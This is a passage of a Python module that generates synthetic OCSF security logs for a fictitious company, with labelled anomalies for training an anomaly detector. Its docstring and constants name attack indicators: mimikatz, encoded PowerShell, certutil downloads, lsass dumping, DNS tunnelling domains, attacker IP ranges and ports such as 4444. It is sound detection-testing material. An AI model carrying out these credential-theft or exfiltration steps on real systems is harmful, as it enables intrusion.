"""Seeded synthetic OCSF 1.5.0 events of a small company, with labelled injected anomalies.

A fresh clone has no security logs, so ``make run`` trains its demo model on events made here and then
scores a second, unseen demo file. Nothing is downloaded; the generator is pure Python plus numpy.

What is generated
-----------------
The fictitious company "Acme" (domain ``acme.internal``, one AWS account) has

* 50 employees in six departments (engineering, sales, marketing, finance, hr, it). Each has a home IP in
  ``10.1.<dept>.<n>``, one or two habitual workstations out of 20 (``ws-eng-01`` ...), working hours
  (start 07-10 h, 8-9 hours a day, Monday to Friday), and habitual browsers, web sites, DNS names,
  network destinations, processes, AWS API operations and AWS regions. The IT staff are the admins.
* three service accounts (``svc-backup``, ``svc-ci``, ``svc-monitor``) on Linux servers, busy at night
  (backups), in office hours (builds) or all the time (monitoring).
* servers ``dc01`` (also the DNS resolver), ``fs01``, ``web01``, ``db01``, ``build01``, ``backup01``,
  ``mon01`` and the VPN gateway ``vpn-gw``.

Events are a mix of six OCSF classes, every one with the base fields (``class_uid``, ``class_name``,
``category_uid``, ``category_name``, ``activity_id``, ``activity_name``, ``type_uid`` = class_uid * 100 +
activity_id, ``type_name``, ``severity_id``, ``severity``, ``time`` in epoch ms, ``metadata`` with
``version`` "1.5.0", a unique ``uid`` ``demo-<seed>-<i>`` and the ``product``):

* Authentication (3002): ``user``/``actor.user``, ``src_endpoint.ip``, ``dst_endpoint.hostname``,
  ``status_id`` (1 success, 2 failure), ``auth_protocol``, ``logon_type``, ``is_mfa``; activity 1 Logon
  (or 2 Logoff).
* Network Activity (4001): ``src_endpoint``/``dst_endpoint`` ip and port, ``connection_info``,
  ``traffic`` (bytes and packets in and out), ``duration``.
* DNS Activity (4003): ``query.hostname``, ``query.type``, ``rcode_id``, ``answers``, ``src_endpoint.ip``.
* HTTP Activity (4002): ``http_request`` (method, url hostname and path, user agent), ``http_response.code``.
* Process Activity (1007): ``actor.process.name``, ``actor.user.name``, ``process`` (name, pid,
  ``cmd_line``, file path), ``device.hostname`` and OS.
* API Activity (6003, CloudTrail-like): ``api.operation``, ``api.service.name``, ``cloud.region``,
  ``actor.user.name``, ``src_endpoint.ip``, ``status_id``.

Authentication, Network and Process events also carry vendor fields under ``unmapped`` (``sensor``,
``risk_score``, a number that is noise and says nothing about the label, and ``rule_name``).

Time runs at about 280 events a day (all times UTC) with a weekly rhythm: most activity in each user's
working hours Monday to Friday, little at night and at weekends except for the service accounts.
Times strictly increase along the returned list. The default training file (20,000 events) spans about
ten weeks; the demo file (2,000 events) is the week that follows it.

Anomaly kinds
-------------
Each anomaly is one event whose label is its kind; it is off-distribution in one or a few fields only,
the rest looks like the user's normal behaviour:

* ``brute_force``: bursts (up to 6 events, seconds apart) of failed, non-MFA VPN logons for one real user
  from one external IP.
* ``impossible_region``: a sensitive AWS call (``DeleteTrail``, ``StopLogging``, ``CreateAccessKey`` ...)
  by an employee in a region the company never uses (``sa-east-1``, ``ap-southeast-1`` ...).
* ``exfiltration``: a connection from an employee's IP to an unknown external IP on port 443 between
  01:00 and 05:00 with ``bytes_out`` 100-1000 times the usual web upload.
* ``rare_port``: an office-hours connection from an employee's IP to an external IP on port 4444, 31337,
  1337 or 6667.
* ``odd_process``: on an employee's workstation in office hours, ``mimikatz.exe``, ``powershell -Enc ...``
  spawned by Word or Outlook, ``certutil -urlcache``, ``rundll32`` of a DLL in a public folder, or
  ``procdump`` of lsass.
* ``dns_tunnel``: TXT queries for very long random-looking subdomains of one attacker domain.
* ``off_hours_admin``: a successful RDP logon of an admin to ``dc01`` or ``fs01`` on a Sunday at 03:xx
  (otherwise exactly what admins do every weekday).

Shifted traffic
---------------
Real traffic drifts away from the period a model was trained on. ``new_hires=h`` (default 0, at most
:data:`MAX_NEW_HIRES`) adds ``h`` employees who were not there before, as in a later period after a round
of hiring. Each joins a department chosen in proportion to its size and is drawn like its staff (working
hours, weekly rhythm, browsers, sites, processes, AWS operations and regions, how busy), under a new name
and SID, with the next free home IP of the department (``10.1.<dept>.<10 + j>``) and a workstation of
their own that did not exist before (``ws-eng-08`` ...). Their own activity is labelled normal; the mix moves
with them (more of their departments' classes and sites), and the injected anomalies may also hit them.
The staff, their habits and the meaning of every other argument are unchanged, and ``new_hires=0`` is
exactly the output without the option. Typical use: train on ``generate_events(n, seed=s)`` and score
a later period of the same company with ``new_hires`` > 0 and injected anomalies.

Determinism
-----------
Everything is drawn from ``numpy.random.Generator`` streams derived from the seed with ``SeedSequence``:
the company (users, habits) from ``(seed, 0)``, the new hires from ``(seed, 2)`` (the first ``m`` of
``h`` new hires are the ``m`` new hires) and the events from ``(seed, 1, stream)``. No set or
dict iteration order, clock or environment enters the output, so the same arguments give the same events
and :func:`write_demo_files` writes byte-identical files. The training file is stream 0 (it is exactly
``generate_events(n_train, seed=seed)``); the demo file is stream 1 of the same company, starting where the
training period ends, with uids numbered on from the training file's so they are unique across both.
"""

from __future__ import annotations

import base64
import bisect
import contextlib
import functools
import gc
import math
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Final, TypeVar

import numpy as np
import numpy.typing as npt
import orjson

Event = dict[str, Any]
_T = TypeVar("_T")

OCSF_VERSION: Final = "1.5.0"
NORMAL: Final = "normal"
ANOMALY_KINDS: Final[tuple[str, ...]] = (
    "brute_force",
    "impossible_region",
    "exfiltration",
    "rare_port",
    "odd_process",
    "dns_tunnel",
    "off_hours_admin",
)
CLASS_UIDS: Final[tuple[int, ...]] = (3002, 4001, 4002, 4003, 1007, 6003)
DEFAULT_START_TIME_MS: Final = 1_700_000_000_000
EVENTS_PER_DAY: Final = 280
MAX_NEW_HIRES: Final = 100

TRAIN_FILE: Final = "train.jsonl"
DEMO_FILE: Final = "demo.jsonl"
LABELS_FILE: Final = "demo.labels.csv"

_HOUR_MS: Final = 3_600_000
_DAY_MS: Final = 24 * _HOUR_MS
_DOMAIN: Final = "acme.internal"
_ACCOUNT_ID: Final = "123456789012"
_BLOCK: Final = 16_384  # draws fetched from numpy at a time

# ---------------------------------------------------------------------------------------------------------
# OCSF vocabulary
# ---------------------------------------------------------------------------------------------------------

_CLASSES: Final[dict[int, tuple[str, int, str]]] = {
    3002: ("Authentication", 3, "Identity & Access Management"),
    4001: ("Network Activity", 4, "Network Activity"),
    4002: ("HTTP Activity", 4, "Network Activity"),
    4003: ("DNS Activity", 4, "Network Activity"),
    1007: ("Process Activity", 1, "System Activity"),
    6003: ("API Activity", 6, "Application Activity"),
}
_SEVERITY: Final[dict[int, str]] = {1: "Informational", 2: "Low", 3: "Medium", 4: "High"}
_AUTH_PROTOCOL_IDS: Final[dict[str, int]] = {"NTLM": 1, "Kerberos": 2, "RADIUS": 10}
_LOGON_TYPES: Final[dict[int, str]] = {2: "Interactive", 3: "Network", 7: "Unlock", 10: "RemoteInteractive"}
_HTTP_ACTIVITY: Final[dict[str, int]] = {"GET": 3, "POST": 6, "PUT": 7}
_PRODUCTS: Final[dict[str, tuple[str, str]]] = {
    "ad": ("Active Directory", "Microsoft"),
    "vpn": ("GlobalProtect", "Palo Alto Networks"),
    "fw": ("NGFW", "Palo Alto Networks"),
    "dns": ("Windows DNS Server", "Microsoft"),
    "proxy": ("Secure Web Gateway", "Zscaler"),
    "sysmon": ("Sysmon", "Microsoft"),
    "auditd": ("auditd", "Linux Audit"),
    "cloudtrail": ("CloudTrail", "AWS"),
}

# ---------------------------------------------------------------------------------------------------------
# The company: catalogues of sites, processes, API operations, departments
# ---------------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class _Site:
    """A web site: its hostname and IP, path templates, share of writes, and a fixed agent if a tool."""

    hostname: str
    ip: str
    paths: tuple[str, ...]
    write_share: float = 0.1
    write_method: str = "POST"
    agent: str | None = None


@dataclass(frozen=True)
class _Proc:
    """An executable with its path, usual parent and command-line templates."""

    name: str
    path: str
    parent: str
    cmds: tuple[str, ...]


@dataclass(frozen=True)
class _Dest:
    """A network destination with the log-normal profile of its traffic (bytes and duration in ms)."""

    ip: str
    port: int
    out_mu: float
    in_mu: float
    sigma: float = 1.0
    dur_mu: float = 8.0
    proto: str = "tcp"


@dataclass(frozen=True)
class _Dept:
    name: str
    size: int
    host_prefix: str
    n_hosts: int
    class_weights: tuple[float, ...]  # in the order of _CLASS_ORDER
    sites: tuple[str, ...]
    procs: tuple[str, ...]
    ops: tuple[tuple[str, str], ...]
    servers: tuple[str, ...]


_CLASS_ORDER: Final[tuple[int, ...]] = (3002, 4001, 4003, 4002, 1007, 6003)  # as _BUILDERS

_SERVERS: Final[dict[str, str]] = {
    "dc01": "10.0.0.10",
    "fs01": "10.0.0.11",
    "web01": "10.0.0.12",
    "db01": "10.0.0.13",
    "build01": "10.0.0.14",
    "backup01": "10.0.0.15",
    "mon01": "10.0.0.16",
    "vpn-gw": "10.0.0.2",
}
_RESOLVER: Final = _SERVERS["dc01"]

_SITES: Final[dict[str, _Site]] = {
    "wiki": _Site(
        f"wiki.{_DOMAIN}", _SERVERS["web01"], ("/display/{repo}/Runbooks", "/pages/{n}", "/search")
    ),
    "jira": _Site(
        f"jira.{_DOMAIN}",
        _SERVERS["web01"],
        ("/browse/ENG-{n}", "/rest/api/2/search", "/secure/Dashboard.jspa"),
        0.2,
    ),
    "git": _Site(
        f"git.{_DOMAIN}",
        _SERVERS["build01"],
        ("/acme/{repo}/-/merge_requests/{n}", "/api/v4/projects/{n}/pipelines", "/acme/{repo}"),
        0.15,
    ),
    "hr": _Site(
        f"hr.{_DOMAIN}", _SERVERS["web01"], ("/employees/{n}", "/leave/requests", "/payroll/runs/{n}"), 0.25
    ),
    "office": _Site(
        "outlook.office365.com",
        "52.97.146.2",
        ("/mail/inbox", "/owa/service.svc", "/calendar/view/week"),
        0.3,
    ),
    "teams": _Site(
        "teams.microsoft.com", "52.113.194.132", ("/api/chatsvc/emea/v1/users/ME/conversations",), 0.4
    ),
    "login": _Site(
        "login.microsoftonline.com",
        "20.190.160.1",
        ("/common/oauth2/v2.0/authorize", "/common/oauth2/v2.0/token"),
        0.5,
    ),
    "github": _Site(
        "github.com", "140.82.121.4", ("/acme/{repo}/pull/{n}", "/acme/{repo}", "/acme/{repo}/actions")
    ),
    "githubapi": _Site(
        "api.github.com",
        "140.82.121.6",
        ("/repos/acme/{repo}/pulls", "/repos/acme/{repo}/commits"),
        0.05,
        agent="git/2.43.0.windows.1",
    ),
    "pypi": _Site(
        "pypi.org", "151.101.0.223", ("/simple/{pkg}/",), 0.0, agent="pip/23.3.2 CPython/3.11.7 Windows/10"
    ),
    "npm": _Site(
        "registry.npmjs.org", "104.16.24.34", ("/{pkg}",), 0.0, agent="npm/10.2.4 node/v20.10.0 win32 x64"
    ),
    "salesforce": _Site(
        "acme.my.salesforce.com",
        "13.108.238.140",
        ("/lightning/r/Opportunity/{id}/view", "/lightning/o/Account/list", "/services/data/v59.0/query"),
        0.2,
    ),
    "hubspot": _Site("app.hubspot.com", "104.16.252.55", ("/contacts/{n}/objects/0-1/views/all/list",), 0.15),
    "google": _Site("www.google.com", "142.250.179.196", ("/search",), 0.0),
    "docs": _Site(
        "docs.google.com", "142.250.179.206", ("/spreadsheets/d/{id}/edit", "/document/d/{id}/edit"), 0.3
    ),
    "linkedin": _Site(
        "www.linkedin.com", "13.107.42.14", ("/feed/", "/in/{pkg}-{n}", "/sales/search/people")
    ),
    "canva": _Site("www.canva.com", "104.16.103.112", ("/design/{id}/edit", "/folder/all-designs"), 0.3),
    "bank": _Site("online.bankofacme.example", "198.51.100.20", ("/payments/batch/{n}", "/accounts"), 0.2),
    "workday": _Site(
        "wd3.myworkday.com", "199.231.140.10", ("/acme/d/task/{n}.htmld", "/acme/d/home.htmld"), 0.2
    ),
    "s3": _Site(
        "acme-backups.s3.eu-west-1.amazonaws.com",
        "52.218.40.10",
        ("/nightly/{id}.pack",),
        0.9,
        "PUT",
        agent="restic/0.16.2 (linux/amd64; go1.21.4)",
    ),
    "ecr": _Site(
        f"{_ACCOUNT_ID}.dkr.ecr.eu-west-1.amazonaws.com",
        "52.95.112.8",
        ("/v2/{repo}/blobs/uploads/",),
        0.6,
        "PUT",
        agent="docker/24.0.7 go/go1.20.10 os/linux arch/amd64",
    ),
    "ci_pypi": _Site(
        "pypi.org", "151.101.0.223", ("/simple/{pkg}/",), 0.0, agent="pip/23.3.2 CPython/3.11.7 Linux"
    ),
    "ci_github": _Site(
        "github.com", "140.82.121.4", ("/acme/{repo}.git/info/refs",), 0.0, agent="git/2.39.2 (gitlab-runner)"
    ),
    "health": _Site(
        f"wiki.{_DOMAIN}",
        _SERVERS["web01"],
        ("/healthz", "/status"),
        0.0,
        agent="Prometheus/blackbox-exporter",
    ),
}

_BROWSERS: Final[tuple[str, ...]] = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 "
    "Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 "
    "Safari/537.36 Edg/120.0.2210.91",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:121.0) Gecko/20100101 Firefox/121.0",
)

_WIN: Final = "C:\\Program Files"
_OFFICE: Final = _WIN + "\\Microsoft Office\\root\\Office16"
_PROCS: Final[dict[str, _Proc]] = {
    "chrome": _Proc(
        "chrome.exe",
        _WIN + "\\Google\\Chrome\\Application\\chrome.exe",
        "explorer.exe",
        (
            '"' + _WIN + '\\Google\\Chrome\\Application\\chrome.exe" --profile-directory=Default',
            '"' + _WIN + '\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-GB',
        ),
    ),
    "edge": _Proc(
        "msedge.exe",
        _WIN + " (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
        "explorer.exe",
        ('"' + _WIN + ' (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --profile-directory=Default',),
    ),
    "outlook": _Proc(
        "OUTLOOK.EXE", _OFFICE + "\\OUTLOOK.EXE", "explorer.exe", ('"' + _OFFICE + '\\OUTLOOK.EXE"',)
    ),
    "excel": _Proc(
        "EXCEL.EXE",
        _OFFICE + "\\EXCEL.EXE",
        "explorer.exe",
        ('"' + _OFFICE + '\\EXCEL.EXE" "C:\\Users\\{user}\\Documents\\{doc}.xlsx"',),
    ),
    "word": _Proc(
        "WINWORD.EXE",
        _OFFICE + "\\WINWORD.EXE",
        "explorer.exe",
        ('"' + _OFFICE + '\\WINWORD.EXE" /n "C:\\Users\\{user}\\Documents\\{doc}.docx"',),
    ),
    "teams": _Proc(
        "ms-teams.exe",
        _WIN + "\\WindowsApps\\MSTeams_23320.3027.2591.1505_x64__8wekyb3d8bbwe\\ms-teams.exe",
        "explorer.exe",
        ("ms-teams.exe --system-initiated",),
    ),
    "code": _Proc(
        "Code.exe",
        "C:\\Users\\{user}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe",
        "explorer.exe",
        ('"C:\\Users\\{user}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe" C:\\src\\{repo}',),
    ),
    "git": _Proc(
        "git.exe",
        _WIN + "\\Git\\cmd\\git.exe",
        "Code.exe",
        ("git.exe fetch --all --prune", "git.exe status --porcelain", "git.exe pull --rebase origin main"),
    ),
    "python": _Proc(
        "python.exe",
        "C:\\Users\\{user}\\AppData\\Local\\Programs\\Python\\Python311\\python.exe",
        "Code.exe",
        (
            "python.exe -m pytest -q tests",
            "python.exe manage.py runserver 8000",
            "python.exe -m pip install -e .",
        ),
    ),
    "docker": _Proc(
        "docker.exe",
        _WIN + "\\Docker\\Docker\\resources\\bin\\docker.exe",
        "cmd.exe",
        ("docker.exe compose up -d", "docker.exe build -t acme/{repo}:dev ."),
    ),
    "node": _Proc(
        "node.exe",
        _WIN + "\\nodejs\\node.exe",
        "cmd.exe",
        ("node.exe node_modules\\vite\\bin\\vite.js", "node.exe server.js"),
    ),
    "acrobat": _Proc(
        "Acrobat.exe",
        _WIN + "\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe",
        "explorer.exe",
        (
            '"'
            + _WIN
            + '\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe" "C:\\Users\\{user}\\Downloads\\invoice_{n}.pdf"',
        ),
    ),
    "sap": _Proc(
        "saplogon.exe",
        _WIN + " (x86)\\SAP\\FrontEnd\\SAPgui\\saplogon.exe",
        "explorer.exe",
        ("saplogon.exe",),
    ),
    "zoom": _Proc(
        "Zoom.exe",
        "C:\\Users\\{user}\\AppData\\Roaming\\Zoom\\bin\\Zoom.exe",
        "explorer.exe",
        ('"Zoom.exe" --url=zoommtg://',),
    ),
    "admin_ps": _Proc(
        "powershell.exe",
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "explorer.exe",
        (
            "powershell.exe -NoProfile -File C:\\Scripts\\Get-StaleAccounts.ps1",
            "powershell.exe -NoProfile -Command Get-ADUser -Filter * "
            "-SearchBase 'OU=Staff,DC=acme,DC=internal'",
            "powershell.exe -NoProfile -File C:\\Scripts\\Export-MailboxStats.ps1",
        ),
    ),
    "mmc": _Proc(
        "mmc.exe",
        "C:\\Windows\\System32\\mmc.exe",
        "explorer.exe",
        (
            '"C:\\Windows\\system32\\mmc.exe" "C:\\Windows\\system32\\dsa.msc"',
            '"C:\\Windows\\system32\\mmc.exe" gpmc.msc',
        ),
    ),
    "mstsc": _Proc(
        "mstsc.exe",
        "C:\\Windows\\System32\\mstsc.exe",
        "explorer.exe",
        ("mstsc.exe /v:{server}.acme.internal",),
    ),
    "ssh": _Proc(
        "ssh.exe",
        "C:\\Windows\\System32\\OpenSSH\\ssh.exe",
        "powershell.exe",
        ("ssh.exe admin@{server}.acme.internal",),
    ),
}
_SYSTEM_PROCS: Final[tuple[_Proc, ...]] = (
    _Proc(
        "svchost.exe",
        "C:\\Windows\\System32\\svchost.exe",
        "services.exe",
        (
            "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
            "C:\\Windows\\system32\\svchost.exe -k LocalService",
        ),
    ),
    _Proc(
        "MsMpEng.exe",
        "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.23110.3-0\\MsMpEng.exe",
        "services.exe",
        ('"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.23110.3-0\\MsMpEng.exe"',),
    ),
    _Proc(
        "TiWorker.exe",
        "C:\\Windows\\WinSxS\\TiWorker.exe",
        "svchost.exe",
        ("C:\\Windows\\winsxs\\TiWorker.exe -Embedding",),
    ),
    _Proc("taskhostw.exe", "C:\\Windows\\System32\\taskhostw.exe", "svchost.exe", ("taskhostw.exe",)),
)
_LINUX_PROCS: Final[dict[str, _Proc]] = {
    "restic": _Proc(
        "restic",
        "/usr/local/bin/restic",
        "cron",
        ("restic backup /srv/share --tag nightly", "restic forget --keep-daily 14 --prune"),
    ),
    "pg_dump": _Proc(
        "pg_dump",
        "/usr/bin/pg_dump",
        "bash",
        ("pg_dump -h db01.acme.internal -Fc -f /srv/pg/acme-{n}.dump acme",),
    ),
    "rsync": _Proc(
        "rsync", "/usr/bin/rsync", "bash", ("rsync -a --delete fs01.acme.internal::share /srv/share",)
    ),
    "ci_git": _Proc(
        "git",
        "/usr/bin/git",
        "gitlab-runner",
        ("git clone --depth 1 https://github.com/acme/{repo}.git", "git fetch origin main"),
    ),
    "ci_docker": _Proc(
        "docker",
        "/usr/bin/docker",
        "gitlab-runner",
        (
            "docker build -t " + _ACCOUNT_ID + ".dkr.ecr.eu-west-1.amazonaws.com/{repo}:{n} .",
            "docker push " + _ACCOUNT_ID + ".dkr.ecr.eu-west-1.amazonaws.com/{repo}:{n}",
        ),
    ),
    "ci_pytest": _Proc(
        "python3",
        "/usr/bin/python3",
        "bash",
        ("python3 -m pytest -q -n 4", "python3 -m pip install -r requirements.txt"),
    ),
    "curl": _Proc(
        "curl",
        "/usr/bin/curl",
        "bash",
        ("curl -fsS https://wiki.acme.internal/healthz", "curl -fsS https://jira.acme.internal/status"),
    ),
    "check_disk": _Proc(
        "check_disk", "/usr/lib/nagios/plugins/check_disk", "nrpe", ("check_disk -w 20% -c 10% -p /",)
    ),
}

_COMMON_OPS: Final[tuple[tuple[str, str], ...]] = (
    ("s3", "GetObject"),
    ("s3", "ListBuckets"),
    ("s3", "ListObjectsV2"),
    ("sts", "GetCallerIdentity"),
)
_SENSITIVE_OPS: Final[tuple[tuple[str, str], ...]] = (
    ("cloudtrail", "DeleteTrail"),
    ("cloudtrail", "StopLogging"),
    ("iam", "CreateAccessKey"),
    ("iam", "AttachUserPolicy"),
    ("ec2", "DeleteFlowLogs"),
    ("guardduty", "DeleteDetector"),
    ("kms", "ScheduleKeyDeletion"),
)
_UNUSUAL_REGIONS: Final[tuple[str, ...]] = (
    "sa-east-1",
    "ap-southeast-1",
    "ap-northeast-2",
    "me-south-1",
    "af-south-1",
)

_OFFICE_SITES: Final = ("office", "teams", "login", "google", "wiki")
_DEPTS: Final[tuple[_Dept, ...]] = (
    _Dept(
        name="engineering",
        size=18,
        host_prefix="ws-eng",
        n_hosts=7,
        class_weights=(8, 28, 24, 18, 14, 8),
        sites=(*_OFFICE_SITES, "jira", "git", "github", "githubapi", "pypi", "npm", "docs"),
        procs=("code", "git", "python", "docker", "node", "outlook", "teams", "zoom"),
        ops=(
            ("ec2", "DescribeInstances"),
            ("lambda", "Invoke"),
            ("logs", "FilterLogEvents"),
            ("s3", "PutObject"),
            ("ecr", "DescribeImages"),
            ("cloudformation", "DescribeStacks"),
            ("sts", "AssumeRole"),
            ("dynamodb", "Query"),
            ("ecs", "UpdateService"),
        ),
        servers=("build01", "db01", "web01"),
    ),
    _Dept(
        name="sales",
        size=10,
        host_prefix="ws-sal",
        n_hosts=4,
        class_weights=(10, 30, 26, 24, 9, 1),
        sites=(*_OFFICE_SITES, "salesforce", "hubspot", "linkedin", "docs"),
        procs=("outlook", "excel", "word", "teams", "zoom", "acrobat"),
        ops=(),
        servers=("fs01",),
    ),
    _Dept(
        name="marketing",
        size=7,
        host_prefix="ws-mkt",
        n_hosts=3,
        class_weights=(10, 30, 26, 24, 9, 1),
        sites=(*_OFFICE_SITES, "hubspot", "linkedin", "canva", "docs"),
        procs=("outlook", "excel", "word", "teams", "zoom", "acrobat"),
        ops=(("s3", "PutObject"),),
        servers=("fs01",),
    ),
    _Dept(
        name="finance",
        size=6,
        host_prefix="ws-fin",
        n_hosts=2,
        class_weights=(10, 28, 24, 22, 14, 2),
        sites=(*_OFFICE_SITES, "bank", "workday", "salesforce"),
        procs=("outlook", "excel", "word", "teams", "sap", "acrobat"),
        ops=(("ce", "GetCostAndUsage"), ("budgets", "DescribeBudgets")),
        servers=("fs01",),
    ),
    _Dept(
        name="hr",
        size=4,
        host_prefix="ws-hr",
        n_hosts=1,
        class_weights=(10, 28, 24, 24, 12, 2),
        sites=(*_OFFICE_SITES, "hr", "workday", "linkedin"),
        procs=("outlook", "excel", "word", "teams", "zoom", "acrobat"),
        ops=(),
        servers=("fs01",),
    ),
    _Dept(
        name="it",
        size=5,
        host_prefix="ws-it",
        n_hosts=3,
        class_weights=(14, 24, 20, 12, 16, 14),
        sites=(*_OFFICE_SITES, "jira", "git", "github"),
        procs=("admin_ps", "mmc", "mstsc", "ssh", "outlook", "teams"),
        ops=(
            ("iam", "ListUsers"),
            ("iam", "GetUser"),
            ("cloudtrail", "LookupEvents"),
            ("ec2", "DescribeSecurityGroups"),
            ("ec2", "AuthorizeSecurityGroupIngress"),
            ("guardduty", "ListFindings"),
            ("ssm", "StartSession"),
            ("organizations", "ListAccounts"),
        ),
        servers=("dc01", "fs01", "backup01", "web01", "db01"),
    ),
)

_BACKGROUND_DNS: Final[tuple[tuple[str, str | None, str | None], ...]] = (
    ("ctldl.windowsupdate.com", "93.184.221.240", None),
    ("settings-win.data.microsoft.com", "20.42.65.92", None),
    ("time.windows.com", "168.61.215.74", None),
    ("ocsp.digicert.com", "93.184.220.29", None),
    (f"wpad.{_DOMAIN}", None, "A"),
    (f"_ldap._tcp.dc._msdcs.{_DOMAIN}", None, "SRV"),
)

_FIRST_NAMES: Final = (  # split in _world
    "Alice Bruno Chloe Daniel Elena Farid Grace Hiro Ines Jonas Keira Liam Maya Noah Olga Pavel Quinn Rosa "
    "Samir Tara Umar Vera Wei Xenia Yusuf Zoe Amara Ben Carla Dev Emil Fatima Gus Hana Ivan Julia Kofi Lena "
    "Marco Nina Oscar Priya Raj Sofia Tomas Uma Victor Wanda Yara Zane Aiko Bilal Clara Diego Eva Finn"
)
_LAST_NAMES: Final = (
    "Nguyen Schmidt Okafor Rossi Silva Kowalski Tanaka Haddad Larsen Novak Dubois Fischer Moreau Patel "
    "Jensen Costa Ivanova Murphy Kim Garcia Berg Mensah Petrov Lopez Weber Sato Ahmed Varga Jansen Ortiz"
)
_REPOS: Final = ("billing", "webapp", "infra", "data-pipeline", "auth-service", "mobile", "docs", "ml-models")
_PKGS: Final = ("requests", "numpy", "react", "lodash", "django", "pandas", "typescript", "boto3", "pytest")
_DOCS: Final = (
    "Q3-forecast",
    "budget-2024",
    "pipeline",
    "offer-letter",
    "board-pack",
    "expenses",
    "campaign-plan",
)

_ATTACKER_NETS: Final = (
    "185.220.101.",
    "45.155.205.",
    "91.240.118.",
    "193.32.162.",
    "141.98.10.",
    "5.188.206.",
)
_TUNNEL_DOMAINS: Final = ("cdn-sync-telemetry.com", "update-check.net", "static-img-cache.io")
_BASE32: Final = "abcdefghijklmnopqrstuvwxyz234567"


# ---------------------------------------------------------------------------------------------------------
# Random draws
# ---------------------------------------------------------------------------------------------------------


class _Draws:
    """A stream of uniform and standard-normal draws from one generator, fetched in blocks.

    Pulling floats from a list is much faster than one numpy call per draw, and as the consumers always
    draw in the same order, the stream stays reproducible for a seed.
    """

    __slots__ = ("_i", "_j", "_rng", "_u", "_z")

    def __init__(self, rng: np.random.Generator) -> None:
        self._rng = rng
        self._u: list[float] = []
        self._z: list[float] = []
        self._i = 0
        self._j = 0

    def u(self) -> float:
        """A uniform draw in ``[0, 1)``."""
        i = self._i
        if i == len(self._u):
            self._u = self._rng.random(_BLOCK).tolist()
            i = 0
        self._i = i + 1
        return self._u[i]

    def z(self) -> float:
        """A standard-normal draw."""
        j = self._j
        if j == len(self._z):
            self._z = self._rng.standard_normal(_BLOCK).tolist()
            j = 0
        self._j = j + 1
        return self._z[j]

    def below(self, p: float) -> bool:
        return self.u() < p

    def randint(self, lo: int, hi: int) -> int:
        """An integer in ``[lo, hi)``."""
        return lo + int(self.u() * (hi - lo))

    def pick(self, seq: Sequence[_T]) -> _T:
        return seq[int(self.u() * len(seq))]

    def wpick(self, seq: Sequence[_T], cum: Sequence[float]) -> _T:
        """An item of ``seq`` drawn with the cumulative weights ``cum``."""
        index = bisect.bisect_right(cum, self.u() * cum[-1])
        return seq[min(index, len(seq) - 1)]

    def lognormal(self, mu: float, sigma: float) -> int:
        return max(1, int(math.exp(mu + sigma * self.z())))


def _cum(weights: Sequence[float]) -> tuple[float, ...]:
    return tuple(float(x) for x in np.cumsum(np.asarray(weights, dtype=np.float64)))


# ---------------------------------------------------------------------------------------------------------
# Actors and the world
# ---------------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class _Actor:
    """A user or service account and its habits; every ``*_cum`` is the cumulative weight of its list."""

    name: str
    sid: str
    dept: str
    is_service: bool
    is_admin: bool
    ip: str
    hosts: tuple[str, ...]
    servers: tuple[str, ...]
    linux: bool
    class_cum: tuple[float, ...]
    sites: tuple[_Site, ...]
    site_cum: tuple[float, ...]
    dests: tuple[_Dest, ...]
    dest_cum: tuple[float, ...]
    dns: tuple[tuple[str, str | None, str | None], ...]
    dns_cum: tuple[float, ...]
    procs: tuple[_Proc, ...]
    proc_cum: tuple[float, ...]
    ops: tuple[tuple[str, str], ...]
    op_cum: tuple[float, ...]
    regions: tuple[str, ...]
    region_cum: tuple[float, ...]
    browser: str


@dataclass(frozen=True)
class _World:
    actors: tuple[_Actor, ...]
    humans: tuple[_Actor, ...]
    admins: tuple[_Actor, ...]
    how_mass: npt.NDArray[np.float64]  # (168,) total activity per hour of the week
    how_actor_cum: npt.NDArray[np.float64]  # (168, n_actors) cumulative actor activity per hour of week


def _human_profile(start_h: int, end_h: int, weekend: float) -> list[float]:
    """Activity per hour of the week (Monday 00:00 first) of an employee."""
    profile: list[float] = []
    for dow in range(7):
        for hour in range(24):
            if dow >= 5:
                w = weekend if 9 <= hour < 19 else 0.004
            elif start_h <= hour < end_h:
                w = 0.6 if hour == 12 else 1.0
            elif hour in (start_h - 1, end_h):
                w = 0.25
            elif 7 <= hour < 23:
                w = 0.04
            else:
                w = 0.008
            profile.append(w)
    return profile


def _site_dest(site: _Site, internal: bool) -> _Dest:
    if internal:
        return _Dest(site.ip, 443, 7.5, 10.0, 1.0, 7.0)
    return _Dest(site.ip, 443, 8.0, 10.5, 1.0, 8.0)


def _dns_entries(sites: Sequence[_Site]) -> list[tuple[str, str | None, str | None]]:
    return [(s.hostname, s.ip, None) for s in sites]


def _make_human(
    rng: np.random.Generator,
    dept: _Dept,
    dept_index: int,
    j: int,
    name: str,
    uid_index: int,
    hosts_pool: Sequence[str],
) -> tuple[_Actor, list[float], float]:
    """Employee ``j`` of ``dept``: home IP ``10.1.<dept_index + 1>.<10 + j>``, one or two of ``hosts_pool``."""
    n_hosts = 2 if (len(hosts_pool) > 1 and rng.random() < 0.3) else 1
    hosts = tuple(hosts_pool[int(i)] for i in rng.choice(len(hosts_pool), size=n_hosts, replace=False))
    start_h = int(rng.integers(7, 11))
    end_h = start_h + int(rng.integers(8, 10))
    is_admin = dept.name == "it"

    class_weights = [w * float(rng.lognormal(0.0, 0.2)) for w in dept.class_weights]
    if not dept.ops:
